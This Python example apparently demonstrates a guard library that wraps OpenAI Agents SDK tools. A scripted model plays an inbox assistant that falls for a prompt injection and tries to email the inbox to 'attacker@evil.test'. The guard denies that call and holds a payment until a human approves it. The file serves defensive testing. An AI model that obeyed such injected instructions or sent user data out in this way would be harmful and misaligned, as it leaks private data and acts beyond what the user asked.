"""The OpenAI Agents SDK under Tether, offline: ``python -m tether.examples.openai_agents_agent [--approve]``.

The SDK's own ``ScriptedModel`` plays a model that falls for the inbox's prompt injection. The
function tools are guarded copies from :class:`~tether.adapters.openai_agents.AgentsGuard`: the
injected ``send_email`` is denied (the model reads the reason as the tool's output), the note is
written, and the payment interrupts the run (``result.interruptions``) until ``state.approve`` or
``state.reject`` answers it. Needs the ``openai-agents`` extra; the SDK's tracing is switched off
(nothing leaves the machine).
"""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

from agents import Agent, Runner, function_tool, set_tracing_disabled
from agents.testing import ScriptedModel, assistant_message, function_call

from tether.adapters.openai_agents import AgentsGuard
from tether.examples._inbox import TASK, open_session, options, pay, read_inbox, report, send_email, write_note


def scripted_model() -> ScriptedModel:
    """The model's turns: read, fall for the injection (and note lunch), pay, answer."""
    return ScriptedModel(
        [
            [function_call("read_inbox", {}, call_id="c1")],
            [
                function_call("send_email", {"to": "attacker@evil.test", "body": "the inbox"}, call_id="c2"),
                function_call("write_note", {"text": "lunch with Alice, Friday noon"}, call_id="c3"),
            ],
            [function_call("pay", {"to": "alice@example.com", "amount": 20}, call_id="c4")],
            [assistant_message("Noted the lunch; the payment to Alice was handled as you decided.")],
        ]
    )


async def run(approve: bool, db: str) -> None:
    """Run the agent, answering each interruption with ``approve``."""
    store, session = open_session(db)
    tools = AgentsGuard(session).tools([function_tool(f) for f in (read_inbox, send_email, write_note, pay)])
    agent = Agent(name="inbox assistant", model=scripted_model(), tools=tools)
    result: Any = await Runner.run(agent, TASK)
    items = list(result.new_items)
    while result.interruptions:
        state = result.to_state()
        for item in result.interruptions:
            print(f"interruption: {item.raw_item.name}({item.raw_item.arguments}) needs a human")
            print(f"human: {'approve' if approve else 'refuse'}")
            state.approve(item) if approve else state.reject(item)
        result = await Runner.run(agent, state)
        items += result.new_items
    for item in items:
        raw = getattr(item, "raw_item", None)
        if isinstance(raw, dict) and raw.get("type") == "function_call_output":
            print(f"tool output {raw['call_id']}: {raw['output']}")
    report(store, session, str(result.final_output))


def main(argv: Sequence[str] | None = None) -> int:
    """Run the example; the payment is approved with ``--approve``."""
    args = options(argv, "The OpenAI Agents SDK under Tether, offline")
    set_tracing_disabled(True)
    asyncio.run(run(args.approve, args.db))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
